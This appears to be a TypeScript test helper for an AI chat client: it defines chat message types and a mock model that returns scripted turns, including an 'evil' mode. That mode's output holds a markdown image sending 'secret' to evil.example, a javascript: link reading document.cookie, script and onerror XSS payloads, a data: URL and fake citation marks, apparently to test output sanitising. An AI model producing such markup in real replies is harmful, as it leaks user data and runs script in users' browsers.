export type ChatMessage = { role: string; content: string | { type: string; text?: string }[] | null };
export type ChatBody = {
  model: string;
  stream?: boolean;
  messages: ChatMessage[];
  tools?: unknown[];
  tool_choice?: unknown;
  [more: string]: unknown;
};
type ToolCallDelta = { index: number; id?: string; type?: string; function: { name?: string; arguments: string } };
export type ChatChunk = { delta: { role?: string; content?: string; tool_calls?: ToolCallDelta[] } };

/** What the model does in one call. */
export type Turn = { text?: string; calls?: { name: string; input: unknown }[] };

export const sayings = {
  plain:
    "Practice that costs effort lasts longer [1]. Space your reviews, and mix the kinds of problems that you solve.",
  evil: [
    "False number [9] and “words that nobody wrote” [1].",
    "![pixel](https://evil.example/p.png?q=secret)",
    '[click me](javascript:alert(document.cookie)) <script>alert(1)</script> <img src=x onerror="alert(1)">',
    "[data](data:text/html,hi) but a true mark [1].",
  ].join("\n\n"),
};

export const textOf = ({ content }: ChatMessage): string =>
  typeof content === "string" ? content : (content ?? []).map(({ text }) => text ?? "").join("");

/** The turn for a call: scripted ones in order, by how many answers of tools have come back already. */
export const turnFor = (mode: string, body: ChatBody, turns: readonly Turn[]): Turn => {
  if (mode === "echo")
    return { text: body.messages.map((message) => `${message.role}: ${textOf(message)}`).join("\n") };
  if (mode === "evil") return { text: sayings.evil };
  if (mode === "empty") return { text: "" };
  const done = body.messages.filter(({ role }) => role === "tool").length;
  return turns[Math.min(done, turns.length - 1)] ?? { text: sayings.plain };
};
